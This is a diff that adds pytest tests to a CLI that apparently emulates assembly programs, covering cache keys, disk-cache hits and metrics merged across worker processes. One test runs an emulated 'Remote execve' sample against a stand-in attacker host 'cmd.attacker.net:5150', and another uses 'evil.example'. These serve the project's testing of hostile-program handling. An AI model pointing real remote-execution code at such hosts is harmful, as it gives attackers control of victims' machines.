@@ -5,6 +5,8 @@ import json
 import pytest
 
 from repro.cli import main
+from repro.fleet import registry_workloads
+from repro.programs.registry import get
 
 TROJAN_SOURCE = """
 main:
@@ -124,6 +126,31 @@ buf: .space 32
         assert code == 0
         assert "served-bytes" in out
 
+    def test_empty_serve_payload_is_a_sink_in_key_and_machine(
+            self, tmp_path, capsys):
+        """``--serve H:P=`` and ``--peer H:P`` share one cache key, so
+        they must build the same machine: a sink either way.  A run
+        answered from the cache reads like a fresh one."""
+        source = tmp_path / "remote.s"
+        source.write_text(get("Remote execve").source)
+        store = str(tmp_path / "cache")
+        addr = "cmd.attacker.net:5150"
+
+        def exit_line(*flags):
+            main(["run", str(source), *flags])
+            return next(line for line in capsys.readouterr().out.splitlines()
+                        if line.startswith("exit"))
+
+        fresh = exit_line("--peer", addr)
+        assert "deadlock" in fresh  # nothing ever sends the commands
+        assert exit_line("--serve", addr + "=") == fresh
+        exit_line("--serve", addr + "=", "--cache-dir", store)
+        assert exit_line("--peer", addr, "--cache-dir", store) == fresh
+
+    def test_peer_without_port_is_rejected(self, hello_file):
+        with pytest.raises(SystemExit):
+            main(["run", hello_file, "--peer", "evil.example"])
+
     def test_no_dataflow_flag(self, trojan_file, capsys):
         code = main([
             "run", trojan_file,
@@ -191,6 +218,20 @@ class TestTableCommand:
         assert main(["table", "ext"]) == 0
         assert "lodeight" in capsys.readouterr().out
 
+    def test_second_run_is_all_disk_hits(self, tmp_path, capsys):
+        store = str(tmp_path / "cache")
+        assert main(["table", "4", "--cache-dir", store]) == 0
+        first = capsys.readouterr().out
+        assert main(["table", "4", "--cache-dir", store]) == 0
+        second = capsys.readouterr().out
+        rows = len(registry_workloads("4"))
+        assert f"0 hit(s) (0 from disk), {rows} miss(es), {rows} stored" \
+            in first
+        assert f"{rows} hit(s) ({rows} from disk), 0 miss(es), 0 stored" \
+            in second
+        # The verdict rows are the same whether executed or answered.
+        assert first.splitlines()[:rows] == second.splitlines()[:rows]
+
 
 class TestChaosCommand:
     def test_seed_replay_is_deterministic(self, capsys):
@@ -207,6 +248,24 @@ class TestChaosCommand:
     def test_unknown_workload_rejected(self):
         with pytest.raises(SystemExit):
             main(["chaos", "--table", "8", "--workload", "nope"])
+
+    def test_pool_metrics_are_merged(self, capsys):
+        argv = ["chaos", "--table", "8", "--workload", "pma",
+                "--trials", "2", "--metrics"]
+        assert main(argv + ["--workers", "2"]) == 0
+        pooled = capsys.readouterr().out
+        assert main(argv) == 0
+        serial = capsys.readouterr().out
+
+        def instructions(out):
+            lines = [line for line in out.splitlines()
+                     if line.startswith("cpu_instructions_total ")]
+            assert len(lines) == 1, out
+            return int(lines[0].split()[1])
+
+        # Both trials' work, summed across the two worker processes.
+        assert "--- telemetry metrics ---" in pooled
+        assert instructions(pooled) == instructions(serial) > 0
 
 
 class TestProfileCommand:
